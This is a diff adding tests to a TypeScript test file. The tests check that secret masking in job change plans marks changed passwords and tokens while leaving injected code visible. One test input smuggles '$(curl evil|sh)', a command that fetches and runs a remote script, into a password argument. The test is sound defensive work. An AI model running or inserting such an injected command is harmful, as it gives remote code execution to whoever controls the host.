@@ -43,6 +43,56 @@ test("a secret that stayed the same, came or went is not said to have changed", 
   ]);
 });
 
+test("code that runs is shown beside a password that changed, and the masks tell them apart", () => {
+  assert.deepEqual(
+    fieldsOf(command('x --password="hunter2"'), command('x --password="h$(curl evil|sh)"')),
+    [["run.command", 'x --password="*** (before)"', 'x --password="*** (after)$(curl evil|sh)"']],
+  );
+  assert.deepEqual(
+    fieldsOf(command("x --password=a --token=b"), command("x --password=a --token=c")),
+    [
+      [
+        "run.command",
+        "x --password=*** --token=*** (before)",
+        "x --password=*** --token=*** (after)",
+      ],
+    ],
+  );
+  assert.deepEqual(fieldsOf(command("x --password=a b"), command("x --password=a$(b) b")), [
+    ["run.command", "x --password=*** b", "x --password=***$(b) b"],
+  ]);
+  assert.deepEqual(
+    fieldsOf(command("x --password=a --token=b"), command("x --password=b --token=a")),
+    [
+      [
+        "run.command",
+        "x --password=*** (before) --token=*** (before)",
+        "x --password=*** (after) --token=*** (after)",
+      ],
+    ],
+  );
+  assert.deepEqual(fieldsOf(command("x --password=***"), command("x --password=hunter2")), [
+    ["run.command", "x --password=***", "x --password=*** (after)"],
+  ]);
+});
+
+test("specs before and after are told apart like their fields, each secret for itself", () => {
+  const before = spec("job", { env: { A_TOKEN: "a", B_TOKEN: "b", C_TOKEN: "c" } });
+  const after = spec("job", { env: { A_TOKEN: "a", B_TOKEN: "x", D_TOKEN: "d" } });
+  const plan = makePlan(desired(after), observed(registered(before)), {
+    nowMs: NOW_MS,
+    codes: new Map(),
+    allowPrune: false,
+  });
+  const [change] = maskPlan(plan).changes;
+  assert.deepEqual(change?.before?.env, {
+    A_TOKEN: "***",
+    B_TOKEN: "*** (before)",
+    C_TOKEN: "***",
+  });
+  assert.deepEqual(change?.after?.env, { A_TOKEN: "***", B_TOKEN: "*** (after)", D_TOKEN: "***" });
+});
+
 test("variables, parameters and headers, and what is looked up", () => {
   const http = (headers: JobSpec["env"]): JobSpec["run"] => ({
     type: "http",
